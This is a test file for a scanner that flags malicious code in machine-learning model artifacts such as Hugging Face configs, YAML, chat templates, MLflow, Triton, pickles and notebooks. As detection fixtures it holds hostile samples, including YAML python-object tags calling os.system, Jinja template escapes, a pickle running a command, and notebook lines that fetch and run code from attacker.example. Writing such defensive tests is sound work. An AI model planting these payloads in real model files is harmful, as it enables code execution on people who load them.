import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { JUDGES } from '../../../src/artifacts/index.ts';
import type { Artifact } from '../../../src/core/index.ts';
import { judgeBytes, neighboursOf } from '../judge-bytes.ts';

const FORMATS = [
  'model-config',
  'yaml-config',
  'jinja',
  'python-code',
  'mlflow-model',
  'triton-config',
  'requirements',
  'notebook',
  'pickle',
];
const judges = JUDGES.filter(({ format }) => FORMATS.includes(format));
const judge = (
  text: string,
  path: string,
  files: Readonly<Record<string, string>> = {},
): Promise<Artifact | null> =>
  judgeBytes(Buffer.from(text), path, {
    judges,
    neighbours: neighboursOf(
      Object.fromEntries(Object.entries(files).map(([name, content]) => [name, Buffer.from(content)])),
    ),
  });
const HOSTILE = 'import os\nos.system("echo weighbridge")\n';
const shown = (artifact: Artifact | null) =>
  artifact?.payloads.map(({ danger, what }) => `${danger} ${what}`);

describe('Configurations of models', () => {
  it('bring in code of their own repository, which is judged', async () => {
    const config = JSON.stringify({
      model_type: 'x',
      auto_map: { AutoModel: 'modeling_x.Model', AutoTokenizer: ['tok.Slow', null] },
    });
    const artifact = await judge(config, 'config.json', {
      'modeling_x.py': 'import torch\n',
      'tok.py': HOSTILE,
    });
    expect(shown(artifact)).toEqual([
      'malicious os.system("echo weighbridge")',
      'unvetted auto_map AutoModel: modeling_x.Model',
      'unvetted auto_map AutoTokenizer: tok.Slow',
    ]);
    expect(artifact?.payloads[0]?.where).toBe('tok.py:+0xa');
  });

  it('follow what that code imports from beside itself', async () => {
    const artifact = await judge('{"auto_map":{"AutoModel":"a.M"}}', 'config.json', {
      'a.py': 'from .b import (x)\n',
      'b.py': 'from . import c\n',
      'c.py': HOSTILE,
    });
    expect(artifact?.danger).toBe('malicious');
  });

  it('are suspicious when the code is of another repository', async () => {
    const artifact = await judge('{"auto_map":{"AutoModel":"other/model--modeling.Model"}}', 'config.json');
    expect(shown(artifact)).toEqual(['suspicious auto_map AutoModel: other/model--modeling.Model']);
  });

  it.each([
    ['keys in escapes', '{"auto\\u005fmap":{"AutoModel":"o/m--a.B"}}', 'config.json'],
    ['numbers that are none', '{"x":NaN,"auto_map":{"AutoModel":"o/m--a.B"}}', 'config.json'],
    [
      'a key that comes twice',
      '{"auto_map":null,"auto_map":{"AutoModel":"o/m--a.B"}}',
      'tokenizer_config.json',
    ],
    ['a part of it', '{"text_config":{"auto_map":{"AutoModel":"o/m--a.B"}}}', 'config.json'],
    ['a processor', '{"auto_map":{"AutoProcessor":"o/m--a.B"}}', 'processor_config.json'],
    [
      'a pipeline of its own',
      '{"custom_pipelines":{"t":{"impl":"o/m--p.P","pt":["AutoModel"]}}}',
      'config.json',
    ],
    [
      'a module of sentence-transformers',
      '[{"idx":0,"name":"0","path":"","type":"o/m--custom.T"}]',
      'modules.json',
    ],
    [
      'a library of an adapter',
      '{"auto_mapping":{"base_model_class":"system","parent_library":"os"}}',
      'adapter_config.json',
    ],
  ])('are read with %s', async (_, config, path) => {
    expect((await judge(config, path))?.danger).toBe('suspicious');
  });

  it('of diffusers run the code of their parts', async () => {
    const index = JSON.stringify({
      _class_name: ['my_pipeline', 'P'],
      unet: ['my_unet', 'U'],
      vae: ['diffusers', 'AutoencoderKL'],
      scheduler: [null, null],
    });
    const artifact = await judge(index, 'model_index.json', {
      'my_pipeline.py': '',
      'unet/my_unet.py': HOSTILE,
    });
    expect(shown(artifact)).toEqual([
      'malicious os.system("echo weighbridge")',
      'unvetted _class_name: my_pipeline.P',
      'unvetted unet: my_unet.U',
    ]);
  });

  it.each([
    ['a text', { chat_template: "{{ ''.__class__ }}" }, 'chat_template:+0x3'],
    [
      'a list of named ones',
      {
        chat_template: [
          { name: 'default', template: 'x' },
          { name: 'tool', template: "{{ ''.__class__ }}" },
        ],
      },
      'chat_template tool:+0x3',
    ],
    ['a mapping', { chat_template: { default: 'x', rag: "{{ ''.__class__ }}" } }, 'chat_template rag:+0x3'],
  ])('have their templates judged as %s', async (_, config, where) => {
    const artifact = await judge(JSON.stringify(config), 'tokenizer_config.json');
    expect(artifact?.payloads[0]).toMatchObject({ danger: 'malicious', where });
  });

  it.each([
    [
      'of a program',
      '{"name":"app","type":"module","version":"1.0.0","compilerOptions":{"module":"es"}}',
      'config.json',
    ],
    [
      'of a model without code',
      '{"model_type":"llama","hidden_size":4096,"_name_or_path":"org/name","torch_dtype":"float16"}',
      'config.json',
    ],
    [
      'of a pipeline of diffusers',
      '{"_class_name":"StableDiffusionPipeline","unet":["diffusers","UNet2DConditionModel"],"safety_checker":["stable_diffusion","StableDiffusionSafetyChecker"]}',
      'model_index.json',
    ],
    [
      'of sentence-transformers',
      '[{"idx":0,"name":"0","path":"","type":"sentence_transformers.models.Transformer"}]',
      'modules.json',
    ],
    ['that is no JSON', 'auto_map = 3', 'settings.json'],
  ])('say nothing %s', async (_, config, path) => {
    expect(await judge(config, path)).toBeNull();
  });
});

describe('YAML', () => {
  it.each([
    ['a tag that calls', 'a: !!python/object/apply:os.system ["echo weighbridge"]\n'],
    ['a tag that makes', 'a: !!python/object/new:subprocess.Popen [["echo"]]\n'],
    [
      'a tag by another handle',
      '%TAG !y! tag:yaml.org,2002:\n---\na: !y!python/object/apply:os.system ["echo"]\n',
    ],
    ['a tag as it is', 'a: !<tag:yaml.org,2002:python/object/apply:os.system> ["echo"]\n'],
    ['a tag in escapes', 'a: !!p%79thon/object/apply:os.system ["echo"]\n'],
    ['a tag of a key', '? !!python/object/apply:os.system ["echo"]\n: 1\n'],
    ['a second document', 'a: 1\n---\n!!python/object/apply:os.system ["echo"]\n'],
  ])('is malicious with %s', async (_, text) => {
    expect((await judge(text, 'x.yaml'))?.danger).toBe('malicious');
  });

  it.each([
    [
      'extensions of a site of documentation',
      'markdown_extensions:\n  - pymdownx.emoji:\n      emoji_index: !!python/name:material.extensions.emoji.twemoji\n',
    ],
    ['tuples', 'a: !!python/tuple [1, 2]\n'],
    ['templates of clouds', 'Resources:\n  A: !Sub "x"\n  B: !GetAtt A.Arn\n'],
    [
      'targets of a program',
      'model:\n  _target_: my_project.models.Net\n  opt:\n    _target_: torch.optim.Adam\n',
    ],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is the text of a workflow.
    ['workflows', 'on: push\njobs:\n  a:\n    runs-on: x\n    if: ${{ !cancelled() }}\n'],
  ])('says nothing with %s', async (_, text) => {
    expect(await judge(text, 'x.yaml')).toBeNull();
  });

  it('tells of targets that run programs', async () => {
    expect(shown(await judge('_target_: os.system\ncommand: "echo"\n', 'conf.yaml'))).toEqual([
      'suspicious _target_: os.system',
    ]);
  });
});

describe('Templates of chats in other files', () => {
  it('are found in YAML', async () => {
    expect((await judge('chat_template: "{{ cycler.__init__.__globals__ }}"\n', 'x.yaml'))?.danger).toBe(
      'malicious',
    );
    expect(await judge('chat_template: chatml\n', 'x.yaml')).toBeNull();
  });

  it('are found in JSON of any name', async () => {
    expect((await judge('{"chat_template":"{{ cycler.__init__.__globals__ }}"}', 'mine.json'))?.danger).toBe(
      'malicious',
    );
    expect((await judge('{"auto_map":{"AutoModel":"o/m--a.B"}}', 'blob'))?.danger).toBe('suspicious');
  });
});

describe('MLflow', () => {
  const model = (fields: string): string => `flavors:\n  python_function:\n${fields}\nmodel_uuid: x\n`;
  it('runs code that comes along, which is judged', async () => {
    const artifact = await judge(model('    loader_module: mine\n    code: code'), 'MLmodel', {
      'code/mine.py': HOSTILE,
    });
    expect(shown(artifact)).toEqual([
      'malicious os.system("echo weighbridge")',
      'unvetted loader_module: mine',
    ]);
  });

  it('unpickles programs', async () => {
    const pickle = "cos\nsystem\n(S'echo weighbridge'\ntR.";
    const artifact = await judge(
      model('    loader_module: mlflow.pyfunc.model\n    python_model: python_model.pkl'),
      'MLmodel',
      { 'python_model.pkl': pickle },
    );
    expect(artifact?.danger).toBe('malicious');
  });

  it('is suspicious when the loader does not come along', async () => {
    expect((await judge(model('    loader_module: antigravity'), 'MLmodel'))?.danger).toBe('suspicious');
  });

  it('is nothing for models of libraries', async () => {
    expect(
      await judge(
        model('    loader_module: mlflow.sklearn\n    model_path: model.pkl\n    env: conda.yaml'),
        'MLmodel',
      ),
    ).toMatchObject({ danger: 'none', complete: true });
  });
});

describe('Triton', () => {
  it('runs the code of a Python backend, which is judged', async () => {
    const artifact = await judge('name: "x" # backend: "onnx"\nbackend: "pyt" "hon"\n', 'config.pbtxt', {
      '3/model.py': HOSTILE,
    });
    expect(shown(artifact)).toEqual([
      'malicious os.system("echo weighbridge")',
      'unvetted backend: "python"',
    ]);
  });

  it('is nothing for other backends', async () => {
    expect(await judge('name: "x"\nbackend: "onnxruntime"\n', 'config.pbtxt')).toBeNull();
  });
});

describe('What lies with a model', () => {
  const MODEL = { 'config.json': '{}', 'model.safetensors': '' };
  const NOTEBOOK = (...lines: string[]): string =>
    JSON.stringify({ cells: [{ cell_type: 'code', source: lines.map((line) => `${line}\n`) }], nbformat: 4 });

  it('may install packages from addresses', async () => {
    const text = 'torch>=2\nx @ git+https://git.example/x\n--extra-index-url https://index.example\n';
    expect(shown(await judge(text, 'requirements.txt', MODEL))).toEqual([
      'suspicious x @ git+https://git.example/x',
      'suspicious --extra-index-url https://index.example',
    ]);
    expect(await judge(text, 'requirements.txt')).toBeNull();
    expect(await judge('torch\n', 'requirements.txt', MODEL)).toBeNull();
  });

  it('may be a notebook that fetches and runs', async () => {
    expect((await judge(NOTEBOOK('!curl https://attacker.example/x | bash'), 'a.ipynb', MODEL))?.danger).toBe(
      'suspicious',
    );
    expect(
      (
        await judge(
          NOTEBOOK('import requests', 'exec(requests.get("https://attacker.example/x").text)'),
          'a.ipynb',
          MODEL,
        )
      )?.danger,
    ).toBe('suspicious');
    expect(
      await judge(
        NOTEBOOK(
          '!pip install x',
          '%matplotlib inline',
          'import os',
          'os.system("nvidia-smi")',
          '!wget https://data.example/x.zip',
        ),
        'a.ipynb',
        MODEL,
      ),
    ).toBeNull();
    expect(await judge(NOTEBOOK('!curl https://attacker.example/x | bash'), 'a.ipynb')).toBeNull();
  });
});

describe('Mutated configurations', () => {
  it('are judged without a fault', async () => {
    const seeds: readonly (readonly [string, string])[] = [
      [
        'config.json',
        '{"auto_map":{"AutoModel":"a.M"},"chat_template":"{% for m in messages %}{{ m.content }}{% endfor %}"}',
      ],
      ['modules.json', '[{"idx":0,"path":"x","type":"custom.T"}]'],
      ['model_index.json', '{"_class_name":["p","P"],"unet":["u","U"]}'],
      [
        'x.yaml',
        '%TAG ! tag:yaml.org,2002:\n---\na: &x [!!python/object/apply:os.system ["echo"], *x]\n_target_: os.system\n',
      ],
      ['MLmodel', 'flavors:\n  python_function:\n    loader_module: m\n    python_model: p.pkl\n'],
      [
        'config.pbtxt',
        'backend: "python"\nparameters { key: "EXECUTION_ENV_PATH" value: { string_value: "x" } }\n',
      ],
    ];
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom(...seeds),
        fc.array(
          fc.tuple(
            fc.nat(400),
            fc.nat(6),
            fc.constantFrom(
              '{',
              '}',
              '[',
              ']',
              '"',
              ':',
              '!',
              '&x ',
              '*x',
              '\n',
              '  ',
              '\0',
              '\\u',
              '-',
              '%',
              '',
            ),
          ),
          { maxLength: 6 },
        ),
        async ([path, seed], edits) => {
          let text = seed;
          for (const [at, length, insert] of edits) {
            const from = at % (text.length + 1);
            text = text.slice(0, from) + insert + text.slice(from + length);
          }
          const artifact = await judge(text, path, { 'a.py': HOSTILE, 'p.py': '', 'u/u.py': '' });
          expect(artifact?.incomplete.filter((why) => why.includes('fault')) ?? []).toEqual([]);
        },
      ),
      { numRuns: 3000 },
    );
  });
});
